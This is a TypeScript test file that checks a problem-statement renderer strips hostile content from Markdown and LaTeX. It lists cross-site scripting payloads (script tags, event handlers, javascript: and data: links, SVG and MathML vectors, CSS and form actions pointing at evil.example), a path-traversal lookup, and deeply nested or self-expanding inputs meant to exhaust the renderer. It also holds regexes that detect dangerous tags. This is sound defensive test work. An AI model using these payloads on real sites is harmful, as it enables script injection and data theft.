import { describe, expect, it } from 'vitest';
import type { Sample } from '#contract/problem.js';
import { findFile, renderStatement } from '#server/problems/statement/render.js';

const FILES: Record<string, string> = { 'picture.png': '/files/picture', 'notes.pdf': '/files/notes' };
const render = (text: string, format: 'markdown' | 'latex' = 'markdown', more: { samples?: Sample[]; constants?: Record<string, string> } = {}) =>
  renderStatement({ text, format, constants: {}, samples: [], fileUrl: (path) => FILES[path] ?? null, ...more });
const html = (text: string, format: 'markdown' | 'latex' = 'markdown') => render(text, format).html;
const sample = (name: string): Sample => ({ name, input: `in ${name} <b>`, answer: `out ${name}`, truncated: false });

/** Whatever would run, load or restyle anything in a page. */
const DANGEROUS = /<(?:script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|video|audio|source|template|noscript)\b|\s(?:on\w+|style|srcdoc|http-equiv|action)\s*=|javascript:|vbscript:|data:|url\(|id="root"|class="app"/i;
/** Beside a formula: KaTeX sets styles, MathML and SVG itself. */
const DANGEROUS_BESIDE_FORMULAS = /<(?:script|style|iframe|object|embed|form|input|button|link|meta|base|img)\b|\son\w+\s*=|(?:href|src)="|url\(/i;

const HOSTILE: Record<string, string> = {
  'a script': 'a <script>alert(1)</script> b',
  'a script in a table': '| a |\n|---|\n| <script>alert(1)</script> |',
  'an event handler': '<img src="picture.png" onerror="alert(1)"> <b onclick=alert(1)>b</b> <p onmouseover=alert(1)>',
  'a javascript: link': '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) <a href="java\nscript:alert(1)">c</a> <a href="&#106;avascript:alert(1)">d</a>',
  'a javascript: picture': '![a](javascript:alert(1)) <img src="javascript:alert(1)">',
  'a data: link': '[a](data:text/html,<script>alert(1)</script>)',
  'SVG': '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>a</text></a><script>alert(1)</script></svg>',
  'MathML': '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>',
  'a style element': '<style>body { background: url(https://evil.example/?) } @import "https://evil.example";</style>',
  'a style attribute': '<p style="background: url(https://evil.example/); position: fixed">a</p>',
  'a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
  'a form': '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">a</button></form>',
  'meta and base': '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example"><link rel="stylesheet" href="https://evil.example">',
  'an id of the page': '<div id="root" class="app">a</div>',
  'tags that do not close': '<scr<script>ipt>alert(1)</scr</script>ipt> <img src=picture.png onerror=alert(1) <b',
};
const latexOf = (text: string) => `\\section{A}\n${text}\n\\href{javascript:alert(1)}{a} \\url{javascript:alert(1)}`;

describe.each(Object.entries(HOSTILE))('%s', (_name, text) => {
  it.each([['Markdown', text, 'markdown'], ['LaTeX', latexOf(text), 'latex']] as const)('in %s comes to nothing', (_format, source, format) => {
    const shown = html(source, format);
    expect(tags(shown)).not.toMatch(DANGEROUS);
    expect(addresses(shown)).toEqual([]);
  });
});

it.each(['\\href{javascript:alert(1)}{a}', '\\url{javascript:alert(1)}', '\\includegraphics{https://evil.example/a.png}', '\\htmlStyle{background: url(https://evil.example)}{b}', '\\htmlData{onclick=alert(1)}{b}', '\\text{<script>alert(1)</script>}'])(
  'a formula with %s comes to nothing',
  (formula) => {
    expect(tags(html(`$x + ${formula}$`))).not.toMatch(DANGEROUS_BESIDE_FORMULAS);
  },
);

/** The tags alone: what is shown as text may say anything. */
function tags(of: string): string {
  return (of.match(/<[^>]*>/g) ?? []).join('');
}

/** Addresses that a browser would fetch by itself, but for our own files. */
function addresses(of: string): string[] {
  return [...of.matchAll(/\s(?:src|srcset|poster|background|data)="([^"]*)"/g)].map((match) => match[1] ?? '').filter((url) => !url.startsWith('/files/'));
}

describe('pictures and links', () => {
  it('of the package point at our own files', () => {
    expect(html('![A tree](picture.png){width=50%}\n\n[Notes](notes.pdf)')).toMatch(/<img src="\/files\/picture" alt="A tree" width="50%" loading="lazy">[\s\S]*<a href="\/files\/notes">Notes<\/a>/);
    expect(html('\\includegraphics[width=0.5\\textwidth]{picture.png}', 'latex')).toContain('<img src="/files/picture" alt="" width="50%" loading="lazy">');
  });

  it('of other hosts are not loaded, and not followed with our name', () => {
    expect(html('![A tree](https://evil.example/tree.png)')).toBe('<p><em>[A tree]</em></p>');
    expect(html('[there](https://example.org/)')).toContain('<a href="https://example.org/" rel="noopener noreferrer nofollow" target="_blank">there</a>');
  });

  it('are found beside the statement, from the root, and without their ending', () => {
    const file = (path: string) => ({ path, hash: 'f'.repeat(64), size: 1 });
    const files = ['statement/a.png', 'problem_statement/pics/b.jpg'].map(file);
    expect(findFile(file('statement/problem.en.md'), files, 'a.png')?.path).toBe('statement/a.png');
    expect(findFile(file('problem_statement/problem.tex'), files, 'pics/b')?.path).toBe('problem_statement/pics/b.jpg');
    expect(findFile(file('statement/problem.en.md'), files, '../data/secret/1.in')).toBeUndefined();
  });
});

describe('samples and formulas', () => {
  it('stand where the author wants them, as text', () => {
    const { html: shown, samplesPlaced } = render('First\n\n{{nextsample}}\n\nThen\n\n{{remainingsamples}}\n', 'markdown', { samples: ['1', '2', '3'].map(sample) });
    expect(samplesPlaced).toBe(3);
    expect(shown.indexOf('in 1 &#x3C;b>')).toBeLessThan(shown.indexOf('Then'));
    expect(shown.indexOf('in 3')).toBeGreaterThan(shown.indexOf('in 2'));
    expect(shown).not.toContain('{{');
  });

  it('are set by KaTeX; a wrong formula harms nothing else', () => {
    expect(html('Let $x \\le 5$ be')).toContain('class="katex"');
    expect(html('\\textbf{Let} $x \\le 5$', 'latex')).toMatch(/<strong>Let<\/strong>.*class="katex"/);
    expect(html('$\\frac{$ and after')).toContain('and after');
  });

  it('are filled with constants, which are text too', () => {
    expect(tags(render('At most {{n}}.', 'markdown', { constants: { n: '<script>alert(1)</script>' } }).html)).not.toMatch(DANGEROUS);
    expect(render('At most {{n}}, {{other}}.', 'markdown', { constants: { n: '10' } }).html).toBe('<p>At most 10, {{other}}.</p>');
  });
});

describe('a statement that is made to harm', () => {
  it('is shown as its source where it cannot be set', () => {
    expect(html(`${'> '.repeat(100)}a <script>`)).toMatch(/^<pre>&gt; .*a &lt;script&gt;<\/pre>$/);
    expect(html(`${'> '.repeat(50)}a`)).toMatch(/^<blockquote>/);
    expect(html(`a\n${'-'.repeat(150)}\n`)).toMatch(/^<h2>a<\/h2>/);
  });

  it.each<[string, string, 'markdown' | 'latex']>([
    ['quotes 5,000 times', '> '.repeat(5_000) + 'a', 'markdown'],
    ['lists 5,000 times', '1. - '.repeat(5_000) + 'a', 'markdown'],
    ['indents ever more', Array.from({ length: 300 }, (_none, depth) => `${'  '.repeat(depth)}- a`).join('\n'), 'markdown'],
    ['opens 20,000 brackets', '['.repeat(20_000), 'markdown'],
    ['nests 20,000 groups', '{'.repeat(20_000), 'latex'],
    ['defines a macro of itself', '\\newcommand{\\a}{\\a\\a}\\a', 'latex'],
    ['multiplies by macros', '\\newcommand{\\a}{xxxxxxxxxx}\\newcommand{\\b}{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\newcommand{\\c}{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\newcommand{\\d}{\\c\\c\\c\\c\\c\\c\\c\\c\\c\\c}\\newcommand{\\e}{\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d}\\e\\e\\e\\e\\e\\e\\e\\e\\e\\e', 'latex'],
    ['has a formula that expands for ever', '$\\def\\a{\\a\\a}\\a$', 'markdown'],
    ['is longer than is set', 'a <script> '.repeat(60_000), 'markdown'],
  ])('and %s is shown all the same, in time', (_title, text, format) => {
    const start = performance.now();
    expect(tags(html(text, format))).not.toMatch(DANGEROUS_BESIDE_FORMULAS);
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});
